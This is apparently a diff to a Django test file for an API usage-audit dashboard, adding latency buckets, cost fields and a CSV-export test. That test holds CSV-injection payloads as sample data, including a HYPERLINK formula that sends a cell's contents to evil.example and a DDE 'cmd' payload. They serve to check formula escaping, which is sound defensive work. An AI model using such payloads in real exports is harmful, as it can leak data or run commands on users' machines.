@@ -64,7 +64,8 @@ def test_rollups_sum_incrementally_and_idempotently() -> None:
     hours = UsageRollup.objects.filter(granularity=Granularity.HOUR).order_by("bucket")
     assert [h.requests for h in hours] == [2, 1]
     first = hours[0]
-    assert (first.failovers, first.input_tokens, first.ttfb_count, first.ttfb_b1, first.ttfb_b5) == (1, 20, 2, 1, 1)
+    # 120 ms falls in (100, 150], 4000 ms in (2000, 5000]
+    assert (first.failovers, first.input_tokens, first.ttfb_count, first.ttfb_b6, first.ttfb_b12) == (1, 20, 2, 1, 1)
     assert hours[1].upstream_errors == 1
     days = UsageRollup.objects.filter(granularity=Granularity.DAY)
     assert sum(d.requests for d in days) == 3
@@ -140,6 +141,8 @@ CUBE_KEYS: dict[str, tuple[str, ...]] = {
     "d": ("account_id", "client_key_id", "model"),
     "dam": ("account_id", "model"),
     "dk": ("client_key_id",),
+    "hak": ("account_id", "client_key_id"),
+    "dak": ("account_id", "client_key_id"),
 }
 
 
@@ -147,7 +150,7 @@ def _mixed_records(n: int, seed: int = 3) -> list[UsageRecord]:
     """Records over two days (crossing midnight) with every outcome and TTFB bucket edge."""
     rng = random.Random(seed)
     base = datetime(2026, 3, 1, 22, 0, tzinfo=UTC)
-    edges = [None, 0, 100, 101, 250, 251, 999, 1000, 2000, 5000, 10000, 30000, 30001, 90000]
+    edges = [None, 0, 5, 6, 25, 26, 75, 100, 101, 250, 251, 750, 999, 1000, 2000, 5000, 10000, 30000, 30001, 90000]
     out = []
     for _ in range(n):
         outcome, status = rng.choice(
@@ -165,6 +168,9 @@ def _mixed_records(n: int, seed: int = 3) -> list[UsageRecord]:
                 output_tokens=rng.randrange(0, 900),
                 cached_tokens=rng.randrange(0, 50),
                 reasoning_tokens=rng.randrange(0, 70),
+                cache_creation_tokens=rng.randrange(0, 40),
+                # None = a model without a known price (counted as unpriced, adds no cost)
+                cost_nanousd=rng.choice([None, 0, rng.randrange(1, 10**9)]),
                 ttfb_ms=rng.choice(edges),
                 duration_ms=rng.randrange(0, 60000),
                 attempts=rng.choice([0, 1, 1, 2, 3]),
@@ -192,6 +198,9 @@ def _expected(records: list[UsageRecord]) -> dict[tuple[Any, ...], dict[str, int
             output_tokens=r.output_tokens,
             cached_tokens=r.cached_tokens,
             reasoning_tokens=r.reasoning_tokens,
+            cache_creation_tokens=r.cache_creation_tokens,
+            cost_nanousd=r.cost_nanousd or 0,
+            unpriced=int(r.cost_nanousd is None),
             duration_ms_sum=r.duration_ms,
             ttfb_count=int(r.ttfb_ms is not None),
             ttfb_ms_sum=r.ttfb_ms or 0,
@@ -314,7 +323,8 @@ def test_dashboard_reads_narrow_cubes_and_totals_agree() -> None:
         page = client.get("/admin/audit/usagerecord/dashboard/")
     assert page.context["totals"]["requests"] == 3
     rollup_sql = [q["sql"] for q in ctx.captured_queries if "audit_usagerollup" in q["sql"]]
-    assert rollup_sql and all("'dam'" in s or "'dk'" in s or "'ham'" in s or "'hk'" in s for s in rollup_sql)
+    narrow = ("'dam'", "'dk'", "'dak'", "'ham'", "'hk'", "'hak'")
+    assert rollup_sql and all(any(c in s for c in narrow) for s in rollup_sql)
     assert not any("audit_usagerecord" in q["sql"] for q in ctx.captured_queries)
 
 
@@ -336,3 +346,37 @@ def test_records_list_never_counts_and_pages_forward() -> None:
     assert len(first.context["cl"].result_list) == 100 and b"more on the next" in first.content
     second = client.get("/admin/audit/usagerecord/?p=2")
     assert len(second.context["cl"].result_list) == 50 and b"more on the next" not in second.content
+
+
+def test_csv_exports_neutralise_formula_cells() -> None:
+    """Issue 17 F9: a model name such as =HYPERLINK(...) was exported as-is (a formula to
+    spreadsheet applications). OWASP: cells starting with = + - @ tab or CR get a quote."""
+    import csv
+    import io
+
+    boss = get_user_model().objects.create_superuser("boss", "b@example.com", "pw-boss-123")
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tx",
+        "\rx",
+    ]
+    UsageRecord.objects.bulk_create(
+        [_rec(requested_model=m, account_label="@acct", error_message="=1+1") for m in hostile]
+        + [_rec(requested_model="gpt-4o-mini")]
+    )
+    rollups_update()
+    client = Client()
+    client.force_login(boss)
+    for url, column in (
+        ("/admin/audit/usagerecord/export/records.csv", "requested_model"),
+        ("/admin/audit/usagerecord/export/rollups.csv?granularity=h", "model"),
+    ):
+        text = b"".join(client.get(url).streaming_content).decode()  # type: ignore[attr-defined]
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        models = sorted(row[column] for row in rows)
+        assert sorted(["'" + m for m in hostile] + ["gpt-4o-mini"]) == models
+        assert {row["account_label"] for row in rows} == {"'@acct", "acct-A"}
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
